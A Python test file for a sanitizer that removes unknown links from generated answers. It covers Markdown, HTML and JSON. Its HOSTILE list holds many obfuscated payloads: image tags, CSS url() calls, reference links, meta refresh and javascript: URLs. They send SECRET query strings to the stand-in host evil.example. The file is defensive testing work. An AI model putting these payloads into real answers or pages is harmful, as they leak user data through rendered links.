"""Links and loads in an answer, found by a Markdown renderer, a browser's HTML parser and JSON."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.drawn import drawn
from tests.renderers import rendered, urls_in_text
from workers.enrichment.answering.links import LINK_REMOVED, without_unknown_links
from workers.enrichment.evidence import Evidence, NumberedSource

PAGE = "https://a.example/bridge"
WIKI = "https://wiki.example/Bridge_(Tarnby)"
ASKED = "https://asked.example/x?a=1"
PICTURE = "https://asked.example/i.png"
TEXT = "Look at https://b.example/more, ![.](https://a.example/badge/a.png) ![.](https://a.example/badge/b.png)."
EVIDENCE = Evidence(
    (
        NumberedSource(1, PAGE, PAGE, "The Halvorsen bridge", (TEXT,)),
        NumberedSource(2, "pmid:12345", WIKI, None, ("It ripens for 14 weeks.",)),
    ),
    (),
    f"What does {ASKED} say?",
    conversation=f"Show the picture {PICTURE} above. (See {WIKI}.)\nWhat does {ASKED} say?",
)
LINKS = {PAGE, WIKI, ASKED, PICTURE}
IMAGES = {ASKED, PICTURE, WIKI}


def cleaned(text: str) -> str:
    return without_unknown_links(text, EVIDENCE)


# -- links and loads in a text ----------------------------------------------------------------------------------------


def strangers(text: str) -> list[tuple[str, str]]:
    """Foreign links and loads in a text, read as HTML, Markdown and plain text."""
    found = [*rendered(text), *(("text", url) for url in urls_in_text(text))]
    return [(where, url) for where, url in found if not is_good(where, url)]


def is_good(where: str, url: str) -> bool:
    if where == "img src":
        return url in IMAGES
    if where == "text":
        return url in LINKS or f"{url})" == WIKI
    return where == "a href" and (url in LINKS or not re.search(r"^[^\w.#]*[/\\]|:", url))


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, one in value.items():
            yield from (key, *strings(one))
    elif isinstance(value, list):
        for one in value:
            yield from strings(one)


# -- dishonest links --------------------------------------------------------------------------------------------------

HOSTILE = [
    '<div style="#;background:url(//evil.example/i?q=SECRET)">',
    '<img srcset="# 1x, //evil.example/?q=S 2x">',
    "<style>*{background:url(//evil.example/?q=s)}</style>",
    "<style\n>*{background:url(/\\evil.example/?q=s)}</style>",
    '<script>import("//evil.example/?q=s")</script>',
    "<SCRIPT/>location='/\\\\evil.example'</script>",
    '<svg onload=import("//evil.example/x")>',
    "<svg><style>*{background:url(//evil.example/?q=s)}</style>",
    "<img src=/\\evil.example/?q=s <i>c",
    "<img src=/\t/evil.example/?q=s>",
    '<img src="&#47;&#47;evil.example/?q=s" <i>c',
    "<img/src=//evil.example/?q=s>",
    "<img src=https:evil.example/?q=s>",
    "<img src=//evil.example/?q=s",
    "<im<a href=//evil.example>g src=//evil.example/i.png>",
    '<a title="x>" href="javascript:alert(1)">x</a>',
    f'<a href="{PAGE}" onmouseover="alert(1)">x</a>',
    f'<a href="{PAGE}" ping="//evil.example/?q=s">x</a>',
    f'<img src="{PAGE}">',
    f'<img src="{PICTURE}" srcset="//evil.example/?q=s 1x">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=//evil.example/?q=s">',
    '<iframe srcdoc="<img src=//evil.example/?q=s>"></iframe>',
    '<table background="//evil.example/?q=s">',
    '<object data="//evil.example/?q=s"></object>',
    '<form action="//evil.example/"><button>x</button></form>',
    '<!--><img src="//evil.example/?q=s">-->',
    "<![CDATA[><img src='//evil.example/?q=s'>]]>",
    "<?x ><img src='//evil.example/?q=s'>?>",
    "![x](https://evil.example/?q=s)",
    "![x](//evil.example/?q=s)",
    "![x](/\\evil.example/?q=s)",
    "![x](\\/\\/evil.example/?q=s)",
    "![x](&#47;&sol;evil.example/?q=s)",
    "![x](https&colon;//evil.example/?q=s)",
    "![x](<//evil.example/a b>)",
    "![x](< //evil.example/a b>)",
    "![x](\n//evil.example/?q=s\n'title')",
    "![a[b]c](//evil.example/?q=s)",
    "![a](//evil.example/(a)b(c)d)",
    "[![x](//evil.example/i.png)](//evil.example/)",
    f"[![x](/\\evil.example)]({PAGE})",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](mailto:x@evil.example?body=SECRET)",
    f"[x]({PAGE}?q=SECRET)",
    f"[x]({PAGE}/../?q=SECRET)",
    "[x](https://a.example@evil.example/bridge)",
    f'[x]({PAGE} "](//evil.example/?q=s)',
    "![x][r]\n\n[r]: //evil.example/x",
    "![x][r]\n\n1. [r]: //evil.example/x",
    "![x][r\n]\n\n[r\n]: //evil.example/x",
    "![x][r]\n\n[r]:\n  /\\evil.example/x",
    "![x][r]\n\n> [r]:\n> //evil.example/x",
    "![x][r]\n\n- > [r]: &#47;/evil.example/x",
    "![r]\n\n[r]: <//evil.example/a b>",
    f"![r]\n\n[r]: {PAGE}>",
    f"[r]\n\n[r]: {PAGE}>SECRET",
    "![r]\n\n[r]:" + 700 * " " + "https:evil.example/x",
    "![r]\n\n[r]:\n" + 700 * " \t" + "https:evil.example/x",
    "![x](" + 700 * " " + "https:evil.example/x)",
    "![r]\n\n[r]: < /\\evil.example/a>",
    "[r]\n\n[r]: <javascript:alert(1) x>",
    "[x](<javascript:alert(1) x>)",
    "![a\\]b]\n\n[a\\]b]: //evil.example/x",
    f"![r]\n\n[r]: {PAGE}",
    f"![x]({PAGE})",
    "<https://evil.example/?q=s>",
    "<javascript:alert(1)>",
    "<mailto:x@evil.example?body=SECRET>",
    "Go to https://evil.example/?q=s now.",
    "Go to HTTPS://evil.example/?q=s now.",
    "Go to www.evil.example/?q=s now.",
    "h[t](javascript:x)tps://evil.example/",
    f"Go to {PAGE}?q=SECRET, {PAGE}#SECRET and {PAGE}.evil.example/.",
    f"Go to {PAGE}|SECRET and {PAGE})SECRET and {PAGE}](SECRET) and {PAGE}。SECRET",
    f"Go to {PAGE}\u00a0SECRET and {PAGE}\u2028SECRET and {PAGE}\u3000SECRET and {PAGE}\x1cSECRET.",
    f"\\[{PAGE}](SECRET)",
    "https://a.example:x@evil.example/bridge",
    '```json\n{"url": "https:\\/\\/evil.example\\/?q=s", "s": "\\u0068ttps\\u003a//evil.example/"}\n```',
    '{"cut off": "\\u0068ttps://evil.example/?q=s \\u003cimg src=//evil.example/x',
    '"\\u0021[x](\\u002f/evil.example/x)"',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_reader_s_program_finds_a_foreign_link(text: str) -> None:
    for around in ("{}", "before {} behind", "> {}", "- {}", "`{}`", "```\n{}\n```", "<div>\n{}\n</div>", "| {} | b |"):
        answer = cleaned(around.format(text) if around != "| {} | b |" else f"| a | b |\n|--|--|\n| {text} | b |")
        assert strangers(answer) == []


@pytest.mark.parametrize("text", [text for text in HOSTILE if "cut off" not in text])
def test_no_reader_of_json_finds_a_foreign_link_either(text: str) -> None:
    for answer in (json.dumps({text: [1.50, {"k": text}]}), json.dumps([text]).replace("/", "\\/"), json.dumps(text)):
        assert [found for one in strings(json.loads(cleaned(answer))) for found in strangers(one)] == []
        assert [one for one in rendered(cleaned(answer)) if not is_good(*one)] == []


PIECES = [
    *HOSTILE, "<", "<b", "<img ", "<a href=", ">", "!", "[", "]", "(", ")", ":", "=", '"', "'", "\\", "/", "//",
    "\n", "\n\n", " ", "\t", "`", "```", "&#47;", "&sol;", "&lt;", "|", "> ", "1. ", "- ", "](", "]:", "![", "[r]: ",
    "][r]", "https:", "evil.example/?q=s", "javascript:", "www.", "src", PAGE, ASKED, PICTURE, WIKI, LINK_REMOVED,
    '{"a": "', '"}', "\\u002f",
]  # fmt: skip


@settings(max_examples=drawn(300))
@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join))
def test_pieces_of_links_in_any_order_make_none(text: str) -> None:
    assert strangers(cleaned(text)) == []


# -- honest answers ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "Sort of: a < b and b > c, 3 <4, x<=y, a<b, List<int>, Map<String, List<Integer>>, std::vector<std::string>.",
        "Use `vector<T>` and `Option<&str>`; H<sub>2</sub>O is <b>water</b>.<br>\n<br/>Next.",
        "```cpp\n#include <vector>\nif (a[i](x) < b[j]) { return x << 2; }\n```\n",
        "```python\ndef f(x: dict[str, int]) -> list[str]:\n    return handlers[name](event, other)[1:2]\n```",
        "```html\n<table class=\"wide\"><tr><td colspan=\"2\">1</td></tr></table>\n```",
        "```tex\n\\begin{align} E:\\\\ m &= 1 \\\\2.5 \\end{align}\n```",
        "| a | b |\n|---|:--|\n| 1 [1] | *2* [2] |\n\n1. One\n2. Two\n\n> Quoted [1].",
        "# Title\n\n- [ ] to do\n- [x] done\n\n***\n\nLast! [sic]",
        "It opened in 1987 [1][2], “as planned” [1, 2]: see [the end](#the-end), [more](more.html).",
        "So it is [^1], and [^2].\n\n[^1]: A note.\n[^2]: See [1].",
        "Either/or, 50 km/h, AT&T, github.com/gin-gonic/gin, C:\\Users\\x, a // b, note: this, keeper@a.example.",
        "f(x) = [a, b](c) and {\"a\": [1, 2]} and (see [1]): yes",
        f"See [the page]({PAGE}), [it]({PAGE}/ 'The bridge'), ([wiki]({WIKI})), [{PAGE}]({PAGE}) and <{PAGE}>.",
        f"See {PAGE}, {WIKI}; ({WIKI}), **{PAGE}** and \"{ASKED}\".",
        f"| {PAGE} | {WIKI} |\n|---|---|\n| [1]({ASKED}) | `{PAGE}` |",
        f"As [the page][1] says.\n\n[1]: {PAGE}\n[2]: <{WIKI}> \"Wiki\"",
        f"![picture]({PICTURE}) and [![picture]({PICTURE} \"it\")]({ASKED})",
        f'See <a href="{PAGE}" title="it">this</a> <img src="{PICTURE}" alt="that">.',
        f'{{"url": "{PAGE}", "more": ["a < b", "C:\\\\x", "\\u00fc", 1.50, 1e999, "x"], "url": "{ASKED}\\nNext"}}',
        f'{{\n  "summary": "see {PAGE}\\nNext sentence"\n}}\n',
        "",
        "7",
    ],
)  # fmt: skip
def test_an_honest_answer_stays_as_it_is(text: str) -> None:
    assert cleaned(text) == text


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("![x](https://evil.example/?q=secret)", "x"),
        ("A [page](https://evil.example/ 'title') here", "A page here"),
        ("[1](https://evil.example/)", "[1]"),
        ("[![alt](https://evil.example/i.png)](https://evil.example/)", "alt"),
        ("![x][r]\n\n[r]: //evil.example/?q=s", f"! [x][r]\n\n[r]: {LINK_REMOVED}"),
        ("<img src='https://evil.example/?q=s'>text", f"< img src='{LINK_REMOVED}'>text"),
        ("<https://evil.example/>", f"<{LINK_REMOVED}>"),
        ("<!-- x --> <?php ?>", "< !-- x --> < ?php ?>"),
        ("Go to https://evil.example/?q=s now", f"Go to {LINK_REMOVED} now"),
        ("Go to //evil.example/?q=s now", f"Go to {LINK_REMOVED} now"),
        ("ftp://evil.example/x", LINK_REMOVED),
        ("See https://b.example/more.", f"See {LINK_REMOVED}"),
        ("It opened in 1987![1]", "It opened in 1987! [1]"),
        (f"![the page]({PAGE})", f"! [the page]({PAGE})"),
        (f"[it]({PAGE})s", f"[it]({PAGE}) s"),
        (f"见{PAGE}。它在", f"见{PAGE} 。它在"),
        (f"{PAGE}\u00a0!", f"{PAGE} \u00a0!"),
        ('{"a":"https:\\/\\/evil.example\\/?q=s","n":1.50}', f'{{"a":"{LINK_REMOVED}","n":1.50}}'),
        ('["\\u0068ttps:\\u002f/evil.example \\ud83d"]', f'["{LINK_REMOVED} \\ud83d"]'),
        ('{"in": "{\\"it\\": \\"https://evil.example\\"}"}', f'{{"in": "{{\\"it\\": \\"{LINK_REMOVED}\\"}}"}}'),
    ],
)
def test_foreign_links_are_taken_apart_and_no_word_is_lost(text: str, clean: str) -> None:
    assert cleaned(text) == clean


def test_a_page_gives_no_link_but_its_own_address() -> None:
    text = f"{PAGE} and https://a.example/badge/a.png and https://b.example/more"
    assert cleaned(text) == f"{PAGE} and {LINK_REMOVED} and {LINK_REMOVED}"


def test_a_source_that_the_job_does_not_write_about_is_no_image() -> None:
    assert strangers(without_unknown_links(f"![x]({PICTURE}) ![x]({PAGE})", replace(EVIDENCE, conversation=""))) == []


@pytest.mark.parametrize(
    "part",
    ["<a ", "<a", "[x](", "](//", "[r]:\n", "= //", "![", "<" * 50, '"\\', '\\"', "((", "](a", "]:", "]: ", "//a.",
     "[" * 9, "a:\\/", PAGE, f"{PAGE})", "<a b=\"c\"", "https://(", "![[", "{\"a\":"],
)  # fmt: skip
def test_links_are_looked_for_in_bounded_time(part: str) -> None:
    assert cleaned(part * (200_000 // len(part))) is not None
